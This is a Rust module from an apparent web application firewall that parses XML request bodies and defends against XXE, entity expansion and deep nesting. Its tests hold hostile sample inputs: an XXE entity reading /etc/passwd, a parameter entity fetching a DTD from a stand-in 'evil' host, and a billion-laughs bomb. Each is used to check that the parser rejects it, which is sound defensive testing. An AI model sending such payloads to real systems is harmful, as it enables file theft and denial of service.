//! XML bodies (`text/xml`, `application/xml`, `application/soap+xml`...) into the `XML` collection.
//!
//! CRS reads XML only through `XML:/*` and `XML://@*`: ModSecurity evaluates those XPaths with libxml2,
//! where `/*` is the root element whose value is its text content (every text and CDATA node below it,
//! concatenated) and `//@*` is every attribute's value; Coraza records each trimmed, non-blank text token
//! for `/*` and every attribute value for `//@*`. [`XmlView`] keeps the text nodes and attribute values
//! in document order so the engine can present either form ([`XmlView::text_values`] for Coraza,
//! [`XmlView::text_content`] for ModSecurity).
//!
//! Safety: parsing is done by `roxmltree`, which performs no I/O at all, so external entities and DTDs
//! are never fetched. Entity declarations (`<!ENTITY`) are refused outright, which removes XXE and entity
//! amplification ("billion laughs" and its quadratic cousins) rather than bounding them; a DOCTYPE without
//! entity declarations is accepted. Node count is bounded by [`BodyLimits::max_xml_nodes`]. Malformed
//! documents and non-UTF-8 bodies set `REQBODY_ERROR` (`XML parsing error: ...`), as libxml2 failures do in
//! ModSecurity.

use std::borrow::Cow;

use roxmltree::{Document, NodeType, ParsingOptions, StringStorage};

use super::{BodyLimits, ParsedBody, XmlView};

const PREFIX: &str = "XML parsing error: ";

/// Deepest element nesting accepted: libxml2's default (`xmlParserMaxDepth`) without `XML_PARSE_HUGE`.
/// It also keeps `roxmltree`, which recurses per level, far from the end of the stack.
pub const MAX_XML_DEPTH: usize = 256;

/// Parses an XML body into the `XML` collection.
///
/// ```
/// use portcullis_waf::body::{parse_xml, BodyLimits};
/// let p = parse_xml(br#"<a x="1"><b>hi</b> <c><![CDATA[<raw>]]></c></a>"#, &BodyLimits::default());
/// let xml = p.xml.unwrap();
/// assert_eq!(xml.text_values().collect::<Vec<_>>(), [&b"hi"[..], b"<raw>"]);
/// assert_eq!(xml.text_content(), b"hi <raw>");
/// assert_eq!(&xml.attributes[0][..], b"1");
/// ```
pub fn parse_xml<'a>(body: &'a [u8], limits: &BodyLimits) -> ParsedBody<'a> {
    let mut out = ParsedBody::default();
    let body = body.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(body);
    if body.iter().all(u8::is_ascii_whitespace) {
        return out;
    }
    let text = match std::str::from_utf8(body) {
        Ok(t) => t,
        Err(e) => {
            out.error = Some(format!("{PREFIX}XML: Failed parsing document: not UTF-8 (at byte {})", e.valid_up_to()));
            return out;
        }
    };
    if body.windows(8).any(|w| w == b"<!ENTITY") {
        out.error = Some(format!("{PREFIX}XML: Failed parsing document: entity declarations are not allowed"));
        return out;
    }
    if nesting_depth(body) > MAX_XML_DEPTH {
        out.error = Some(format!("{PREFIX}XML: Failed parsing document: nesting deeper than {MAX_XML_DEPTH}"));
        return out;
    }
    let options = ParsingOptions { allow_dtd: true, nodes_limit: limits.max_xml_nodes };
    let doc = match Document::parse_with_options(text, options) {
        Ok(doc) => doc,
        Err(e) => {
            out.error = Some(format!("{PREFIX}XML: Failed parsing document: {e}"));
            return out;
        }
    };
    let mut view = XmlView::default();
    for node in doc.descendants() {
        match node.node_type() {
            NodeType::Element => {
                for attr in node.attributes() {
                    view.attributes.push(match attr.value_storage() {
                        StringStorage::Borrowed(s) => Cow::Borrowed(s.as_bytes()),
                        StringStorage::Owned(s) => Cow::Owned(s.as_bytes().to_vec()),
                    });
                }
            }
            NodeType::Text => {
                // Text outside the root element can only be whitespace; it is not part of `/*`.
                if node.parent().is_some_and(|p| p.is_root()) {
                    continue;
                }
                match node.text_storage() {
                    Some(StringStorage::Borrowed(s)) => view.texts.push(Cow::Borrowed(s.as_bytes())),
                    Some(StringStorage::Owned(s)) => view.texts.push(Cow::Owned(s.as_bytes().to_vec())),
                    None => {}
                }
            }
            NodeType::Root | NodeType::Comment | NodeType::PI => {}
        }
    }
    out.xml = Some(view);
    out
}

/// An upper bound of the element nesting depth, found in one pass without building anything: start tags
/// open a level, end tags and `/>` close one; quoted attribute values, comments, CDATA sections, processing
/// instructions and declarations are skipped so that their content cannot hide levels.
fn nesting_depth(s: &[u8]) -> usize {
    let skip_past = |from: usize, end: &[u8]| -> usize {
        s[from..].windows(end.len()).position(|w| w == end).map_or(s.len(), |i| from + i + end.len())
    };
    let (mut depth, mut max, mut i) = (0usize, 0usize, 0usize);
    while i < s.len() {
        if s[i] != b'<' {
            i += 1;
            continue;
        }
        let rest = &s[i..];
        if rest.starts_with(b"<!--") {
            i = skip_past(i + 4, b"-->");
        } else if rest.starts_with(b"<![CDATA[") {
            i = skip_past(i + 9, b"]]>");
        } else if rest.starts_with(b"<?") {
            i = skip_past(i + 2, b"?>");
        } else if rest.starts_with(b"<!") {
            i = skip_past(i + 2, b">");
        } else if rest.starts_with(b"</") {
            depth = depth.saturating_sub(1);
            i = skip_past(i + 2, b">");
        } else {
            depth += 1;
            max = max.max(depth);
            // Scan the tag, skipping quoted attribute values, to see whether it closes itself.
            i += 1;
            let mut prev = 0u8;
            while i < s.len() {
                match s[i] {
                    q @ (b'"' | b'\'') => {
                        i = s[i + 1..].iter().position(|&c| c == q).map_or(s.len(), |p| i + 1 + p);
                    }
                    b'>' => {
                        if prev == b'/' {
                            depth -= 1;
                        }
                        break;
                    }
                    _ => {}
                }
                prev = s.get(i).copied().unwrap_or(0);
                i += 1;
            }
            i += 1;
        }
    }
    max
}

impl XmlView<'_> {
    /// Coraza's `XML:/*`: each text node trimmed, blank ones skipped.
    pub fn text_values(&self) -> impl Iterator<Item = &[u8]> {
        self.texts.iter().map(|t| t.trim_ascii()).filter(|t| !t.is_empty())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::{Duration, Instant};

    fn view(body: &[u8]) -> XmlView<'_> {
        let p = parse_xml(body, &BodyLimits::default());
        assert_eq!(p.error, None);
        p.xml.unwrap()
    }

    #[test]
    fn texts_and_attributes() {
        let x = view(
            br#"<?xml version="1.0"?><xml><element attribute_name="ProcessBuilder.evil">element_value</element><e a='1' b="&lt;2&gt;"/> <!-- c --><?pi x?></xml>"#,
        );
        assert_eq!(x.text_values().collect::<Vec<_>>(), [&b"element_value"[..]]);
        assert_eq!(x.text_content(), b"element_value ");
        let attrs: Vec<&[u8]> = x.attributes.iter().map(|a| &a[..]).collect();
        assert_eq!(attrs, [&b"ProcessBuilder.evil"[..], b"1", b"<2>"]);
        assert!(matches!(x.texts[0], Cow::Borrowed(_)));
    }

    #[test]
    fn predefined_and_character_references_are_decoded() {
        let x = view(b"<a>&amp;&#x41;&#66;<b>c</b></a>");
        assert_eq!(x.text_values().collect::<Vec<_>>(), [&b"&AB"[..], b"c"]);
    }

    #[test]
    fn malformed_xml_is_an_error() {
        for bad in [&b"<a>"[..], b"<a></b>", b"test", b"<a x=1/>", b"<a>&unknown;</a>", b"<a/><b/>", b"\xff<a/>"] {
            let p = parse_xml(bad, &BodyLimits::default());
            let e = p.error.unwrap_or_else(|| panic!("no error for {}", String::from_utf8_lossy(bad)));
            assert!(e.starts_with("XML parsing error: "), "{e}");
            assert!(p.xml.is_none());
        }
        assert_eq!(parse_xml(b" \n", &BodyLimits::default()).error, None);
    }

    #[test]
    fn xxe_is_never_expanded() {
        let xxe = br#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
        let p = parse_xml(xxe, &BodyLimits::default());
        assert!(p.error.unwrap().contains("entity declarations are not allowed"));
        assert!(p.xml.is_none());
        let param = br#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><foo/>"#;
        assert!(parse_xml(param, &BodyLimits::default()).error.is_some());
        // A DOCTYPE without entities is fine, and an external DTD reference is not fetched.
        let x = view(br#"<!DOCTYPE foo SYSTEM "http://127.0.0.1:1/x.dtd"><foo>ok</foo>"#);
        assert_eq!(x.text_values().collect::<Vec<_>>(), [&b"ok"[..]]);
    }

    #[test]
    fn billion_laughs_is_refused_quickly() {
        let mut doc = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for i in 1..10 {
            doc.push_str(&format!(
                "<!ENTITY lol{i} \"{}\">",
                format!("&lol{};", i - 1).repeat(10).replace("&lol0;", "&lol;")
            ));
        }
        doc.push_str("]><lolz>&lol9;</lolz>");
        let start = Instant::now();
        assert!(parse_xml(doc.as_bytes(), &BodyLimits::default()).error.is_some());
        assert!(start.elapsed() < Duration::from_millis(500));
    }

    #[test]
    fn node_limit_and_deep_nesting() {
        let limits = BodyLimits { max_xml_nodes: 10, ..BodyLimits::default() };
        let body = "<a>".to_string() + &"<b/>".repeat(20) + "</a>";
        assert!(parse_xml(body.as_bytes(), &limits).error.is_some());
        let deep = "<a>".repeat(100_000) + &"</a>".repeat(100_000);
        let start = Instant::now();
        let p = parse_xml(deep.as_bytes(), &BodyLimits::default());
        assert!(p.error.unwrap().contains("nesting deeper than 256"));
        assert!(start.elapsed() < Duration::from_secs(2));
        let ok = "<a>".repeat(256) + &"</a>".repeat(256);
        assert!(parse_xml(ok.as_bytes(), &BodyLimits::default()).error.is_none());
        // Self-closing tags, comments and quoted `>` or `/>` do not fool the depth count.
        assert_eq!(nesting_depth(b"<a><b/><c x='/>'/><!-- <d> --><![CDATA[<e>]]><?p <f>?></a>"), 2);
        assert_eq!(nesting_depth(b"<a x=\"/>\"><b><c>"), 3);
    }
}
